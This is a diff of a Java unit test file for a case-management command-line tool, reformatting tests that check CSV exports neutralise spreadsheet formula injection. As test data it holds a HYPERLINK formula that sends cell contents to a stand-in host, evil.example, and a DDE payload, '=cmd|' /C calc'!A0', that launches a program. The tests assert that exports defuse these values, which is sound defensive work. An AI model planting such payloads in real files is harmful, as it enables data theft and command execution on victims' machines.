@@ -21,6 +21,7 @@ import org.redress.app.cli.Cli;
 class CsvExportsTest {
     @TempDir
     static Path tmp;
+
     static SmallCase c;
 
     static final String FACT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
@@ -31,9 +32,12 @@ class CsvExportsTest {
     @BeforeAll
     static void setUp() throws IOException {
         c = SmallCase.imported(tmp);
-        Path hostile = c.write("hostile.csv", "date,kind,people,description,source,place,quote\n"
-                + "2017-05-02,adverse.detention,Victor Diaz,\"" + FACT.replace("\"", "\"\"") + "\",\"" + SOURCE + "\",\""
-                + PLACE + "\",\"" + QUOTE + "\"\n");
+        Path hostile = c.write(
+                "hostile.csv",
+                "date,kind,people,description,source,place,quote\n"
+                        + "2017-05-02,adverse.detention,Victor Diaz,\"" + FACT.replace("\"", "\"\"") + "\",\"" + SOURCE
+                        + "\",\""
+                        + PLACE + "\",\"" + QUOTE + "\"\n");
         ok("import", "--case", c.dir.toString(), "events", hostile.toString());
     }
 
@@ -44,7 +48,13 @@ class CsvExportsTest {
     }
 
     static List<CSVRecord> parse(String csv) throws IOException {
-        try (CSVParser p = CSVParser.parse(csv, CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get())) {
+        try (CSVParser p = CSVParser.parse(
+                csv,
+                CSVFormat.DEFAULT
+                        .builder()
+                        .setHeader()
+                        .setSkipHeaderRecord(true)
+                        .get())) {
             return p.getRecords();
         }
     }
@@ -57,24 +67,50 @@ class CsvExportsTest {
 
     @Test
     void theChronologyCsvDefusesFactsPlacesSourcesAndQuotes() throws IOException {
-        List<CSVRecord> rows = parse(ok("chronology", "--case", c.dir.toString(), "--format", "csv").out());
-        CSVRecord hostile = rows.stream().filter(r -> r.get("date").equals("2017-05-02")).findFirst().orElseThrow();
+        List<CSVRecord> rows = parse(
+                ok("chronology", "--case", c.dir.toString(), "--format", "csv").out());
+        CSVRecord hostile = rows.stream()
+                .filter(r -> r.get("date").equals("2017-05-02"))
+                .findFirst()
+                .orElseThrow();
         assertThat(hostile.get("fact")).isEqualTo("'" + FACT);
         assertThat(hostile.get("place")).isEqualTo("'" + PLACE);
         assertThat(hostile.get("quote")).isEqualTo("'" + QUOTE);
         assertThat(hostile.get("source")).isEqualTo("'" + SOURCE);
         assertThat(hostile.get("kind")).isEqualTo("adverse.detention");
-        assertThat(rows).extracting(r -> r.get("date")).contains("2017-03-01", "2017-03-17T07:30", "2017-03", "~2017-04-10");
+        assertThat(rows)
+                .extracting(r -> r.get("date"))
+                .contains("2017-03-01", "2017-03-17T07:30", "2017-03", "~2017-04-10");
         noCellRunsAsAFormula(rows);
         for (CSVRecord r : rows) assertThat(r.get("fact")).doesNotStartWith("-");
     }
 
     @Test
     void theRequestsCsvDefusesEveryTextFieldAndKeepsAmountsAndDates() throws IOException {
-        ok("requests", "add", "--case", c.dir.toString(), "--law", "us-foia", "--agency", "=cmd|' /C calc'!A0",
-                "--office", "@SUM(A1)", "--subject", "-1+1 DMV look-ups", "--tracking", "+1-2024-0001",
-                "--received", "2024-03-01", "--status", "processing", "--fees", "25.50", "--json");
-        String csv = ok("requests", "export", "--case", c.dir.toString(), "--today", "2024-03-25").out();
+        ok(
+                "requests",
+                "add",
+                "--case",
+                c.dir.toString(),
+                "--law",
+                "us-foia",
+                "--agency",
+                "=cmd|' /C calc'!A0",
+                "--office",
+                "@SUM(A1)",
+                "--subject",
+                "-1+1 DMV look-ups",
+                "--tracking",
+                "+1-2024-0001",
+                "--received",
+                "2024-03-01",
+                "--status",
+                "processing",
+                "--fees",
+                "25.50",
+                "--json");
+        String csv = ok("requests", "export", "--case", c.dir.toString(), "--today", "2024-03-25")
+                .out();
         CSVRecord r = parse(csv).get(0);
         assertThat(r.get("agency")).isEqualTo("'=cmd|' /C calc'!A0");
         assertThat(r.get("office")).isEqualTo("'@SUM(A1)");
@@ -85,7 +121,9 @@ class CsvExportsTest {
         // Id, fees and the count of productions are numbers: unquoted, as they were (a negative number would keep its
         // minus sign: SpreadsheetCellTest; fees cannot be negative).
         assertThat(r.get("fees")).isEqualTo("25.50");
-        assertThat(csv.lines().skip(1).findFirst().orElseThrow()).startsWith("1,\"'+1-2024-0001\",").endsWith(",25.50,0");
+        assertThat(csv.lines().skip(1).findFirst().orElseThrow())
+                .startsWith("1,\"'+1-2024-0001\",")
+                .endsWith(",25.50,0");
         noCellRunsAsAFormula(parse(csv));
     }
 }
